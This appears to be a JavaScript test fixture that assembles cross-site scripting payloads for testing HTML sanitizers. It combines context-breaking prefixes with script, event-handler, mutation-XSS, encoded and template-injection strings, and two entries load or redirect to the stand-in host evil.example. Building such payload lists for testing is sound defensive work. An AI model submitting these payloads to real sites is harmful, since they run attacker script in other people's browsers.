// Markup that strangers store in the hope that it runs on somebody's page. Each sets window.__xss, opens a dialog, or asks
// another host for something. `.example` is nobody's.

const VECTORS = [
  "<script>window.__xss=1;alert(1)</script>",
  "<img src=x onerror=window.__xss=1>",
  "<svg onload=window.__xss=1>",
  "<svg><script>window.__xss=1</script></svg>",
  "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
  "<details open ontoggle=window.__xss=1>",
  "<input autofocus onfocus=window.__xss=1>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<a href=javascript:window.__xss=1 autofocus>x</a>",
  "<meta http-equiv=refresh content=0;url=https://evil.example/>",
];
// What ends the place where a text may stand: nothing, an attribute, an element with raw text, a comment.
const BREAKS = [
  "",
  '">',
  "'>",
  "</title>",
  "</textarea>",
  "</script>",
  "-->",
  "]]>",
  "\u0000",
  "</div></section></main>",
];
// Some that are more than markup in a place: other letters, half-made tags, encodings, addresses.
const SINGLE = [
  'javascript:window.__xss=1',
  "JaVaScRiPt\t:window.__xss=1",
  "data:text/html,<script>parent.__xss=1</script>",
  '" onmouseover="window.__xss=1" x="',
  "' autofocus onfocus='window.__xss=1",
  "&lt;script&gt;window.__xss=1&lt;/script&gt;",
  "&#60;img src=x onerror=window.__xss=1&#62;",
  "＜script＞window.__xss=1＜/script＞",
  "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
  "<IMG SRC=x OnErRoR=window.__xss=1//",
  "\u2028<script>window.__xss=1</script>\u202e",
  "{{constructor.constructor('window.__xss=1')()}}",
  "${window.__xss=1}",
  "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
  "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=window.__xss=1 src>\">",
  "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
];

export const PAYLOADS = [...BREAKS.flatMap((end) => VECTORS.map((vector) => end + vector)), ...SINGLE];
